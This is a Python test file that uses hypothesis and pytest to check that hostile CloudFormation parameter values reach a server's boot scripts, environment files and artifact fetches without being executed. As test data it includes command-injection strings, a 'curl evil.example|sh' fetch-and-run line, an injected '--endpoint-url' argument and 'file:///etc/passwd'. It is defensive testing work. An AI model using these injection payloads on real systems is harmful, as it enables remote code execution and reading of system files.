"""Hostile values, literal or put in by CloudFormation, all the way onto a server: they arrive, and nothing runs."""

import json
import os
import subprocess
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from resilient_website.expand import expand_template
from resilient_website.problems import InvalidTemplateError
from tests.hypothesis_profile import examples
from tests.instance.hostile_values import LINE_BREAKS, MARK, PATHS, SCRIPT_TEXT, VALUES, nothing_ran
from tests.instance.sandbox import BARE, SECRET, Sandbox, expanded, signal_of, user_data_of
from tests.quoting import docker, systemd


def seen_by_a_shell(shell: str, file: Path) -> dict[str, str]:
    """Return the environment after a shell has read the environment file."""
    command = [shell, "-c", f"set -a; . {file}; env -0"]
    reported = subprocess.run(
        command, env={"PATH": os.environ["PATH"]}, capture_output=True, check=True, cwd=file.parent
    )
    return dict(entry.split("=", 1) for entry in reported.stdout.decode().split("\0") if entry)


@given(*[VALUES] * 4, PATHS)
@examples(20)
@example("", " leading and trailing ", "", "", "/")
@example(f"feature'; touch {MARK}; '", *[f'"$(touch {MARK})"'] * 3, f'/h"$(touch$IFS{MARK})\\"')
def test_environment_has_every_value_for_systemd_shells_and_containers(
    name: str, host: str, literal: str, secret: str, path: str
) -> None:
    database = {"DatabaseName": {"Ref": "Name"}}
    properties = {
        "WebServers": {
            "UserData": "true",
            "Port": 8080,
            "HealthCheckPath": path,
            "Environment": {
                "Variables": {"LITERAL": literal, "GIVEN": {"Ref": "Name"}},
                "Secrets": {"SECRET": f"{SECRET}3", "KEY": f"{SECRET}4:a key::"},
            },
        },
        "Database": database,
        "Delivery": {"Caching": "Disabled"},
    }
    with tempfile.TemporaryDirectory() as folder:
        sandbox = Sandbox(Path(folder))
        given_values = {"Name": name, "SiteDatabase.Endpoint.Address": host, "AWS::StackName": name}
        sandbox.secrets |= {f"{SECRET}3": secret, f"{SECRET}4": json.dumps({"a key": secret[::-1]})}
        script = user_data_of(expanded(properties, {"Name": name}), given_values)
        assert signal_of(sandbox.boot(script, 8080)) == "0", sandbox.errors
        expected = {
            **{"LITERAL": literal, "GIVEN": name, "SECRET": secret, "KEY": secret[::-1]},
            "DATABASE_NAME": name,
            "DATABASE_HOST": host,
            "SITE_NAME": f"{name} Site",
            "HEALTH_CHECK_PATH": path,
            "WEB_PORT": "8080",
        }
        assert systemd.environment(sandbox.environment).items() >= expected.items()
        assert docker.environment(sandbox.folder / "container.env").items() >= expected.items()
        for shell in ("bash", "sh"):
            assert seen_by_a_shell(shell, sandbox.environment).items() >= expected.items()
        nothing_ran(sandbox)


@given(st.sampled_from(LINE_BREAKS), VALUES, VALUES)
@examples(10)
@example("\t", "a", "b")
def test_value_with_a_control_character_fails_the_boot(line_break: str, before: str, after: str) -> None:
    properties = {"WebServers": {"UserData": "true", "Port": 8080}, "Database": {"DatabaseName": {"Ref": "Name"}}}
    value = f"{before}{line_break}{after}"
    with tempfile.TemporaryDirectory() as folder:
        sandbox = Sandbox(Path(folder))
        script = user_data_of(expanded(properties, {"Name": ""}), {"Name": value})
        assert signal_of(sandbox.boot(script, 8080)) == "1"
        assert "DATABASE_NAME: found a control character" in sandbox.errors
        assert "DATABASE_NAME" not in sandbox.environment.read_text()
        nothing_ran(sandbox)


@given(VALUES, VALUES, st.booleans())
@examples(20)
@example("feature'; curl evil.example|sh; '", "v", False)
@example("it's", "x", True)
@example("--endpoint-url=http://evil.example", "--no-sign-request", False)
def test_artifacts_place_arrives_as_it_is(release: str, version: str, literal: bool) -> None:
    key = f"shop/{release}.zip"
    artifact = {
        "Bucket": {"Ref": "Bucket"},
        "Key": key if literal else {"Fn::Sub": "shop/${Release}.zip"},
        "VersionId": {"Ref": "Version"},
        "Command": "true",
    }
    with tempfile.TemporaryDirectory() as folder:
        sandbox = Sandbox(Path(folder))
        (sandbox.root / "artifact").write_bytes(b"PK\5\6" + bytes(18))
        values = {"Bucket": release, "Release": release, "Version": version}
        resources = expanded({**BARE, "WebServers": {"Artifact": artifact, "Port": 8080}}, values)
        assert signal_of(sandbox.boot(user_data_of(resources, values), 8080)) == "0", sandbox.errors
        expected = [f"--bucket={release}", f"--key={key}", *([f"--version-id={version}"] if version else [])]
        assert sandbox.fetched()[4:-1] == expected
        nothing_ran(sandbox)


@pytest.mark.parametrize("name", ["Bucket", "Release", "Version", "Checksum"])
@pytest.mark.parametrize("value", [f"x\ntouch {MARK}\n", "file:///etc/passwd", f"'; touch {MARK}; '"])
def test_artifact_that_parameters_lead_astray_is_not_run(tmp_path: Path, name: str, value: str) -> None:
    artifact = {
        "Bucket": {"Ref": "Bucket"},
        "Key": {"Ref": "Release"},
        "VersionId": {"Ref": "Version"},
        "Sha256": {"Ref": "Checksum"},
        "Command": "true",
    }
    sandbox = Sandbox(tmp_path)
    (sandbox.root / "artifact").write_bytes(b"PK\5\6" + bytes(18))
    values = {"Bucket": "releases", "Release": "a.zip", "Version": "v", "Checksum": "0" * 64, name: value}
    resources = expanded({**BARE, "WebServers": {"Artifact": artifact, "Port": 8080}}, values)
    calls = sandbox.boot(user_data_of(resources, values), 8080)
    assert signal_of(calls) == "1"
    assert "systemctl enable --now website" not in calls
    nothing_ran(sandbox)


@given(SCRIPT_TEXT, SCRIPT_TEXT, st.booleans())
@examples(30)
@example(f"\nEND\ntouch {MARK}\n", f"\nEND\ntouch {MARK}\n", True)
@example(f"'; touch {MARK}; '", f"'; touch {MARK}; '\n\n", False)
def test_script_is_written_as_it_is(known: str, put_in: str, literal: bool) -> None:
    """A script may have any text in it; that of a parameter never ends the file that it belongs to.

    Windows' line ends, as far as they are written out, become those of the servers. A boot runs one script that is
    known as a whole, and one that is not.
    """
    text = "#!/bin/true\n" + known.replace("{{resolve:", "")
    plain = text.replace("\r\n", "\n")
    # Each with what the file that its boot writes is to have.
    scripts: list[tuple[Any, str]] = [
        (text, plain),
        ({"Fn::Sub": [text.replace("${", "${!") + "${Release}", {}]}, plain + put_in),
    ]
    (user_data, whole_user_data), (drain, whole_drain) = scripts if literal else scripts[::-1]
    properties = {**BARE, "WebServers": {"UserData": user_data, "Drain": {"Script": drain}, "Port": 8080}}
    with tempfile.TemporaryDirectory() as folder:
        sandbox = Sandbox(Path(folder))
        resources = expanded(properties, {"Release": put_in})
        assert signal_of(sandbox.boot(user_data_of(resources, {"Release": put_in}), 8080)) == "0", sandbox.errors
        for name, whole in {"user-data": whole_user_data, "drain": whole_drain}.items():
            written = (sandbox.root / "var/lib/resilient-website" / name).read_bytes().decode()
            assert written in (whole, whole + "\n")
        nothing_ran(sandbox)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        *(("Key", f"shop/1{character}.zip") for character in "\n\r\t\0\x1b\x7f"),
        ("Key", "file:///etc/passwd"),
        ("Key", {"Fn::Sub": "{{resolve:ssm:/release}}.zip"}),
        ("Key", "{{resolve:ssm:/release}}"),
        ("Bucket", "releases/shop"),
        ("Bucket", "it's"),
        ("VersionId", "a b"),
        ("VersionId", "a\n"),
        ("Sha256", "0" * 63),
        ("Sha256", "g" * 64),
    ],
)
def test_literal_that_can_not_be_is_refused(name: str, value: Any) -> None:
    artifact = {"Bucket": "releases", "Key": "a.zip", "Command": "true", name: value}
    site = {"Type": "ResilientWebsite", "Properties": {"WebServers": {"Artifact": artifact}}}
    with pytest.raises(InvalidTemplateError) as error:
        expand_template({"Resources": {"Site": site}}, {}, "us-east-1")
    (problem,) = error.value.problems
    assert problem.path == f"Resources.Site.Properties.WebServers.Artifact.{name}"
